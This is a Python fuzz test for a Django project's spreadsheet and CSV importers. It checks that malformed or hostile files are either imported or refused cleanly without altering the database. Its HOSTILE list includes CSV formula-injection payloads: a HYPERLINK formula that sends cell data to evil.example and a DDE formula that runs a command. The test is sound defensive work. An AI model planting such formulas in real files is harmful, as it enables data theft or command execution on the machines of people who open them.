"""Every importer, fed files a hurried or hostile user might give it (issue 18): binary junk,
every encoding Excel writes and mixes of them, control characters, formulas, huge cells,
far too many columns, wrong headers, workbooks cut short. Each file is either imported or
refused by ``gonghui import`` with a message naming the file (a non-zero exit, never a
traceback), and a refused file leaves every table it could touch exactly as it was.

``GONGHUI_FUZZ_EXAMPLES`` sets the files per importer (120 in the suite, which ``.ci/run`` runs on
two databases within its time; 600 by hand)."""

import csv
import hashlib
import importlib
import io
import os
from io import StringIO

import pytest
from django.apps import apps
from django.core.management import CommandError, call_command
from django.db.models import Count, Max
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from gonghui.console.fill_in import FILL_INS
from gonghui.culture.importers import ATTENDEE_COLUMNS, COUNT_COLUMNS, VISIT_COLUMNS
from gonghui.culture.models import Campaign, Event
from gonghui.members.importers import COLUMNS as WORKER_COLUMNS
from gonghui.mutualaid.importers import ROSTER_COLUMNS
from gonghui.mutualaid.models import Plan
from gonghui.orgs.importers import COLUMNS as LOCATION_COLUMNS
from gonghui.programs.importers import COLUMNS as SERVICE_COLUMNS
from gonghui.programs.models import Program
from gonghui.rights.importers import RECOVERY_COLUMNS
from gonghui.rights.importers import WORKER_COLUMNS as CASE_COLUMNS
from gonghui.rights.models import WageCase
from gonghui.stations.importers import COLUMNS as STATION_COLUMNS
from gonghui.training.importers import COLUMNS as CLASS_COLUMNS
from gonghui.training.importers import FUND_COLUMNS, SCORE_COLUMNS
from gonghui.training.models import Competition, FundProject, TrainingClass

pytestmark = pytest.mark.django_db
EXAMPLES = int(os.environ.get("GONGHUI_FUZZ_EXAMPLES", "120"))

# kind → (its template's columns, the model of the operand before FILE, the apps it writes)
KINDS = {
    "workers": (WORKER_COLUMNS, None, ("members",)),
    "services": (SERVICE_COLUMNS, Program, ("programs",)),
    "stations": (STATION_COLUMNS, None, ("stations",)),
    "employer-locations": (LOCATION_COLUMNS, None, ("orgs",)),
    "aid-enrolments": (ROSTER_COLUMNS, Plan, ("mutualaid",)),
    "case-workers": (CASE_COLUMNS, WageCase, ("rights",)),
    "recoveries": (RECOVERY_COLUMNS, WageCase, ("rights",)),
    "enrolments": (CLASS_COLUMNS, TrainingClass, ("training",)),
    "fund-trainees": (FUND_COLUMNS, FundProject, ("training",)),
    "scores": (SCORE_COLUMNS, Competition, ("training",)),
    "event-attendees": (ATTENDEE_COLUMNS, Event, ("culture",)),
    "bookhouse-visits": (VISIT_COLUMNS, None, ("culture",)),
    "campaign-counts": (COUNT_COLUMNS, Campaign, ("culture",)),
}

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&B2,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "张\x00东青",
    "\ufeff姓名",
    "9" * 5000,
    "41170219850612123X",
    "411702198506121230",
    "2026-02-30",
    "0000-01",
    "18446744073709551616",
    "-1",
    "1e309",
    "NaN",
    "１２３",
    "　",
    "驻马店市驿城区",
    "WGS84",
]
CELL = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(max_size=20),
    st.integers(-(2**70), 2**70).map(str),
    st.floats().map(str),
)
ENCODINGS = ("utf-8", "utf-8-sig", "gb18030", "utf-16")


@st.composite
def hostile_files(draw, columns: tuple[str, ...]) -> tuple[str, bytes]:
    """(file name, bytes): a roster-like file, mostly near enough to pass the first checks."""
    shape = draw(st.sampled_from(["csv", "csv", "xlsx", "junk", "cut"]))
    if shape == "junk":
        return draw(st.sampled_from(["名册.csv", "名册.xlsx"])), draw(st.binary(max_size=3000))
    header = draw(
        st.one_of(
            st.just(list(columns)),
            st.lists(CELL, max_size=len(columns) + 2),
            st.integers(1, 300).map(lambda n: list(columns) + [f"多余{i}" for i in range(n)]),
        )
    )
    rows = draw(st.lists(st.lists(CELL, max_size=len(columns) + 2), max_size=6))
    rows += [[""] * len(columns)] * draw(st.sampled_from([0, 0, 3, 2000]))
    if shape == "csv":
        text = io.StringIO()
        csv.writer(text).writerows([header, *rows])
        data = text.getvalue().encode(draw(st.sampled_from(ENCODINGS)), errors="replace")
        if draw(st.booleans()):  # a stray byte or two of another encoding
            at = draw(st.integers(0, len(data)))
            data = data[:at] + draw(st.binary(min_size=1, max_size=4)) + data[at:]
        return "名册.csv", data
    book = Workbook()
    for row in [header, *rows]:
        book.active.append([ILLEGAL_CHARACTERS_RE.sub("", cell) for cell in row])
    saved = io.BytesIO()
    book.save(saved)
    data = saved.getvalue()
    if shape == "cut":
        data = data[: len(data) * draw(st.integers(0, 999)) // 1000]  # the zip's length varies
    return "名册.xlsx", data


def fingerprint(labels: tuple[str, ...]) -> str:
    """Every row of every table of ``labels`` hashed in key order, and the audit log's size."""
    digest = hashlib.sha256()
    for label in labels:
        for model in apps.get_app_config(label).get_models():
            for row in model._base_manager.order_by("pk").values_list():
                digest.update(repr(row).encode())
    for model in apps.get_app_config("audit").get_models():
        digest.update(repr(model._base_manager.aggregate(n=Count("pk"), last=Max("pk"))).encode())
    return digest.hexdigest()


def test_every_importer_is_fuzzed():
    command = importlib.import_module("gonghui.cli.management.commands.import")
    assert set(KINDS) == set(command.IMPORTERS)


def fuzz(kind: str, operands: list[str], tmp_path) -> int:
    """Feed ``EXAMPLES`` files to ``gonghui import kind``; how many it refused."""
    columns, _, labels = KINDS[kind]
    state = {"then": fingerprint(labels), "refused": 0}

    @settings(
        max_examples=EXAMPLES, deadline=None, database=None, suppress_health_check=list(HealthCheck)
    )
    @given(hostile_files(columns))
    def imported_or_refused(file: tuple[str, bytes]) -> None:
        name, data = file
        path = tmp_path / name
        path.write_bytes(data)
        try:
            call_command("import", kind, *operands, str(path), stdout=StringIO(), stderr=StringIO())
        except CommandError as error:
            assert name in str(error), (kind, str(error))
            assert fingerprint(labels) == state["then"], (kind, str(error))
            state["refused"] += 1
        else:  # imported: what it wrote is the new state
            state["then"] = fingerprint(labels)

    imported_or_refused()
    return state["refused"]


def test_every_file_is_imported_or_refused_by_name_leaving_the_database_as_it_was(
    tmp_path, province_admin
):
    call_command("generate", "--scale", "tiny", "--seed", "3", "--year", "2025", stdout=StringIO())
    for kind, (_, target, _) in KINDS.items():
        operands = [str(target.objects.order_by("pk").first().pk)] if target else []
        assert fuzz(kind, operands, tmp_path), kind  # the files reached the refusals


def test_every_import_the_command_knows_has_a_list_to_fill_in():
    command = importlib.import_module("gonghui.cli.management.commands.import")
    assert set(FILL_INS) == set(command.IMPORTERS)
